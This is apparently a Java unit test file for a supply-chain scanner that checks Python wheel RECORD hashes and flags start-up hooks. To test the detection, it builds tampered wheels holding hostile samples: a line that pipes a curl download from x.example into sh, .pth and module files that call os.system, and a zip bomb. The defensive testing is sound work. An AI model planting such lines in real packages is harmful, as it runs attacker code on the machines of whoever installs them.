package dev.veritensor.rules.pip.wheel;

import dev.veritensor.api.Diagnostic;
import dev.veritensor.api.Location;
import dev.veritensor.api.Severity;
import dev.veritensor.api.Source;
import dev.veritensor.rules.pip.PipRulePack;
import dev.veritensor.rules.pip.startup.PackRun;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.Arrays;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * {@code pip/wheel-record-mismatch} and {@code pip/startup-hook} over wheels built byte by byte,
 * read by the wheel parser and checked by the rules directly (what the engine adds for archive
 * members is tested end to end elsewhere).
 */
class WheelScanTest {

    private static PackRun.Result scan(String path, byte[] wheel) throws Exception {
        return PackRun.of(new PipRulePack(), List.of(Source.of(path, wheel)));
    }

    private static PackRun.Result scan(TestWheel wheel) throws Exception {
        return scan("dist/" + wheel.fileName(), wheel.build());
    }

    private static List<String> spots(PackRun.Result result) {
        return result.findings().stream().map(PackRun.Reported::spot).toList();
    }

    private static TestWheel clean() {
        return TestWheel.of("ml_utils", "1.2.0")
                .file("ml_utils/__init__.py", "from .core import run\n")
                .file("ml_utils/core.py", "def run():\n    return 42\n")
                .file("ml_utils/data/vocab, v2.txt", "a\nb\n")
                .file("ml_utils-1.2.0.data/scripts/ml-utils", "#!python\nimport ml_utils\n");
    }

    @Test
    void aConsistentWheelDrawsNothing() throws Exception {
        PackRun.Result result = scan(clean());
        assertThat(result.findings()).isEmpty();
        assertThat(result.diagnostics()).isEmpty();
    }

    @Test
    void aReplacedFileIsReportedOnItsRecordRow() throws Exception {
        TestWheel w = clean().tampered("ml_utils/loader.py", "def load(p):\n    return open(p).read()\n",
                "import os\ndef load(p):\n    os.system('curl -s https://x.example | sh')\n    return open(p).read()\n");
        PackRun.Result result = scan(w);
        String record = "dist/" + w.fileName() + "!/" + w.distInfo() + "/RECORD";
        assertThat(spots(result)).containsExactly("pip/wheel-record-mismatch " + record + ":" + w.recordLine("ml_utils/loader.py"));
        PackRun.Reported f = result.findings().get(0);
        assertThat(f.severity()).isEqualTo(Severity.HIGH);
        assertThat(f.message()).startsWith("ml_utils/loader.py: its sha256 is ").contains("but RECORD says", "bytes but RECORD says");
        String row = w.recordText().split("\n")[w.recordLine("ml_utils/loader.py") - 1];
        assertThat(f.location()).isEqualTo(new Location(record, w.recordLine("ml_utils/loader.py"), 1,
                w.recordLine("ml_utils/loader.py"), row.length() + 1));
    }

    @Test
    void aWrongSizeAloneIsReported() throws Exception {
        byte[] content = "x = 1\n".getBytes(StandardCharsets.UTF_8);
        TestWheel w = clean().unlisted("ml_utils/x.py", "x = 1\n")
                .recordRow("ml_utils/x.py,sha256=" + TestWheel.digest("sha256", content) + ",7");
        PackRun.Result result = scan(w);
        assertThat(result.findings()).hasSize(1);
        assertThat(result.findings().get(0).message()).isEqualTo("ml_utils/x.py: it is 6 bytes but RECORD says 7");
    }

    @Test
    void aDigestWrittenInHexOrStandardBase64IsCompared() throws Exception {
        byte[] lib = "def area(r):\n    return 3.14159 * r * r\n".getBytes(StandardCharsets.UTF_8);
        byte[] doc = "Geometry helpers.\n".getBytes(StandardCharsets.UTF_8);
        byte[] bin = new byte[600];
        for (int i = 0; i < bin.length; i++) {
            bin[i] = (byte) (i * 31 + 7);
        }
        String standardBase64 = "";
        for (int shift = 0; !standardBase64.contains("+") && !standardBase64.contains("/"); shift++) {
            bin[0] = (byte) shift;
            standardBase64 = Base64.getEncoder().encodeToString(MessageDigest.getInstance("SHA-256").digest(bin));
        }
        String hexOfOther = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(doc));
        TestWheel w = clean()
                .unlisted("ml_utils/geometry.py", new String(lib, StandardCharsets.UTF_8))
                .recordRow("ml_utils/geometry.py,sha256=" + HexFormat.of().formatHex(
                        MessageDigest.getInstance("SHA-256").digest(lib)) + "," + lib.length)
                .unlisted("ml_utils/README.txt", "Geometry helpers, patched.\n")
                .recordRow("ml_utils/README.txt,sha256=" + hexOfOther.toUpperCase(Locale.ROOT) + ",27");
        RawZip zip = new RawZip();
        byte[] built = w.build();
        PackRun.Result hex = scan("dist/" + w.fileName(), built);
        assertThat(hex.findings()).extracting(PackRun.Reported::message).containsExactly("ml_utils/README.txt: its"
                + " sha256 is " + TestWheel.digest("sha256", "Geometry helpers, patched.\n".getBytes(StandardCharsets.UTF_8))
                + " but RECORD says " + hexOfOther.toUpperCase(Locale.ROOT));

        String record = "ml_utils/tables.bin,sha256=" + standardBase64 + "," + bin.length + "\n"
                + "ml_utils/tables2.bin,sha256=" + standardBase64.replace("=", "") + "," + bin.length + "\n"
                + w.distInfo() + "/RECORD,,\n";
        zip.stored("ml_utils/tables.bin", bin).stored("ml_utils/tables2.bin", bin)
                .deflated(w.distInfo() + "/RECORD", record.getBytes(StandardCharsets.UTF_8));
        assertThat(scan("dist/" + w.fileName(), zip.bytes()).findings()).isEmpty();
    }

    @Test
    void unlistedFilesAreReportedOnTheWheelAndCappedBeyondTwenty() throws Exception {
        TestWheel w = clean().unlisted("evil.pth", "import os;os.system('id')\n")
                .unlisted(clean().distInfo() + "/RECORD.jws", "{}")
                .unlisted(clean().distInfo() + "/RECORD.p7s", "sig");
        PackRun.Result result = scan(w);
        assertThat(spots(result)).containsExactly("pip/wheel-record-mismatch dist/" + w.fileName() + ":1");
        assertThat(result.findings().get(0).message()).isEqualTo("evil.pth is in the wheel but not listed in "
                + w.distInfo() + "/RECORD");

        TestWheel many = clean();
        for (int i = 0; i < 25; i++) {
            many.unlisted("ml_utils/extra_" + i + ".py", "# " + i);
        }
        PackRun.Result r = scan(many);
        assertThat(r.findings()).hasSize(21);
        assertThat(r.findings()).anyMatch(f -> f.message().equals("5 more files are in the wheel but not listed in "
                + many.distInfo() + "/RECORD"));
    }

    @Test
    void aWheelWithoutRecordIsReported() throws Exception {
        PackRun.Result result = scan(clean().withoutRecord());
        assertThat(result.findings()).extracting(PackRun.Reported::message).containsExactly(
                "the wheel has no .dist-info/RECORD, so none of its files can be checked (installers refuse such a wheel)");
    }

    @Test
    void hashAlgorithmsBeyondSha256() throws Exception {
        TestWheel w = clean()
                .file("ml_utils/strong.py", "a = 1\n", "sha512")
                .file("ml_utils/strong384.py", "a = 2\n", "sha384")
                .file("ml_utils/weak.py", "b = 1\n", "md5")
                .file("ml_utils/blake.py", "c = 1\n", "blake2b")
                .file("ml_utils/odd.py", "d = 1\n", "crc32")
                .recordRow("ml_utils/nohash.py,,6")
                .unlisted("ml_utils/nohash.py", "e = 1\n");
        PackRun.Result result = scan(w);
        assertThat(result.findings()).extracting(PackRun.Reported::message).containsExactlyInAnyOrder(
                "ml_utils/weak.py: RECORD hashes it with md5, which the wheel specification forbids",
                "ml_utils/odd.py: RECORD hashes it with unknown algorithm 'crc32'",
                "ml_utils/nohash.py: RECORD lists it without a hash");
        assertThat(result.diagnostics()).extracting(Diagnostic::code).containsExactly("record-hash-unverified");
    }

    @Test
    void theLastOfTwoMembersWithOneNameIsCheckedToo() throws Exception {
        TestWheel w = clean();
        // two members named core.py, the second different from what RECORD says
        RawZip zip = new RawZip();
        byte[] core = "def run():\n    return 42\n".getBytes(StandardCharsets.UTF_8);
        zip.deflated("ml_utils/core.py", core)
                .deflated("ml_utils/core.py", "import os\nos.system('id')\n".getBytes(StandardCharsets.UTF_8))
                .deflated(w.distInfo() + "/RECORD", ("ml_utils/core.py,sha256=" + TestWheel.digest("sha256", core) + ","
                        + core.length + "\n" + w.distInfo() + "/RECORD,,\n").getBytes(StandardCharsets.UTF_8));
        PackRun.Result result = scan("dist/" + w.fileName(), zip.bytes());
        assertThat(result.findings()).hasSize(1);
        assertThat(result.findings().get(0).location().startLine()).isEqualTo(1);
    }

    @Test
    void startUpModulesInstalledIntoSitePackages() throws Exception {
        TestWheel w = clean()
                .file("sitecustomize.py", "import os\n")
                .file("ml_utils-1.2.0.data/purelib/usercustomize.pyc", "\u0000bytecode")
                .file("ml_utils-1.2.0.data/platlib/sitecustomize/__init__.py", "")
                .file("ml_utils-1.2.0.data/data/lib/python3.12/site-packages/zz.start", "ml_utils.hook:run\n")
                .file("ml_utils/sitecustomize.py", "# not imported at start-up\n")
                .file("ml_utils-1.2.0.data/scripts/usercustomize.py", "# a script\n");
        PackRun.Result result = scan(w);
        String base = "dist/" + w.fileName() + "!/";
        assertThat(spots(result)).containsExactly(
                "pip/startup-hook " + base + "sitecustomize.py:1",
                "pip/startup-hook " + base + "ml_utils-1.2.0.data/purelib/usercustomize.pyc:1",
                "pip/startup-hook " + base + "ml_utils-1.2.0.data/data/lib/python3.12/site-packages/zz.start:1");
        assertThat(result.findings().get(0).message()).isEqualTo(
                "sitecustomize.py installs the sitecustomize module into site-packages: Python imports it at every start-up");
        assertThat(result.findings()).allMatch(f -> f.severity() == Severity.HIGH);
    }

    @Test
    void damagedAndHostileArchivesBecomeDiagnostics() throws Exception {
        byte[] good = clean().build();
        PackRun.Result truncated = scan("dist/" + clean().fileName(), Arrays.copyOf(good, good.length / 2));
        assertThat(truncated.findings()).isEmpty();
        assertThat(truncated.diagnostics()).extracting(Diagnostic::code).containsExactly("wheel-unreadable");

        PackRun.Result notZip = scan("dist/fake-1.0-py3-none-any.whl", "not a zip".getBytes(StandardCharsets.UTF_8));
        assertThat(notZip.findings()).isEmpty();
        assertThat(notZip.diagnostics()).isEmpty();

        RawZip odd = new RawZip().stored("pk\\x.dist-info/RECORD", "a,,\n".getBytes(StandardCharsets.UTF_8))
                .stored("..dist-info/RECORD", "a,,\n".getBytes(StandardCharsets.UTF_8));
        PackRun.Result oddNames = scan("dist/x-1.0-py3-none-any.whl", odd.bytes());
        assertThat(oddNames.findings()).extracting(PackRun.Reported::message).containsExactly(
                "pk\\x.dist-info/RECORD is in the wheel but not listed in ..dist-info/RECORD");

        byte[] corrupt = good.clone();
        for (int i = 40; i < 200 && i < corrupt.length; i++) {
            corrupt[i] ^= 0x5a;
        }
        PackRun.Result c = scan("dist/" + clean().fileName(), corrupt);
        assertThat(c.diagnostics()).extracting(Diagnostic::code).isNotEmpty().doesNotContain("parser-error", "rule-error");
    }

    @Test
    void anExpansionBeyondTheBudgetStopsReading() throws Exception {
        long size = 300L << 20;
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        ByteArrayOutputStream compressed = new ByteArrayOutputStream();
        byte[] zeros = new byte[1 << 20];
        byte[] buf = new byte[1 << 16];
        CRC32 crc = new CRC32();
        for (long done = 0; done < size; done += zeros.length) {
            deflater.setInput(zeros);
            crc.update(zeros);
            while (!deflater.needsInput()) {
                compressed.write(buf, 0, deflater.deflate(buf));
            }
        }
        deflater.finish();
        while (!deflater.finished()) {
            compressed.write(buf, 0, deflater.deflate(buf));
        }
        byte[] bomb = new RawZip().precompressed("ml_utils/zeros.bin", compressed.toByteArray(), size, crc.getValue())
                .bytes();
        PackRun.Result result = scan("dist/ml_utils-1.2.0-py3-none-any.whl", bomb);
        assertThat(result.diagnostics()).extracting(Diagnostic::code).containsExactly("wheel-limit");
        assertThat(result.findings()).isEmpty();
    }
}
